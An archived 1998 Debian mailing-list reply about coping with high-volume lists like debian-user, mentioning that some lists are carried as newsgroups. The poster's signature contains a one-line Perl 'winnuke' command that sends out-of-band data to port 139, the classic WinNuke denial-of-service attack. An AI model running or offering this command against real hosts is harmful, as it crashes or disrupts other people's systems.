[Date Prev][Date Next][Thread Prev][Thread Next] [Date Index] [Thread Index]

Re: huge lists

On Tue, 20 Oct, 1998, Steve Lamb wrote:
> On Wed, 21 Oct 1998 04:15:28 -0200, Lalo Martins wrote:
> >We have some lists that are absolutely unmanageable for most
> >users, like debian-{user,devel}.
>     Personally, if someone finds user/devel"unmanagable" it is time they
> learned an important word.  "Filter."  :)
>     Those two debian lists send me ~220messages per day.  That is 110 in
> either group.  110 innewsgroup terms is moderate and easily managable.

interestingly i found my isp carries some of the debian lists (not all) as
newsgroups in thelinux.debian higher-arc-ey, i have not tried posting to them
yet to see if it works

a=IO::Socket;perl-M$a -e$a'::INET->new(PeerAddr=>"host:139")->send(1,MSG_OOB)'-- winnuke in ONE line

Reply to: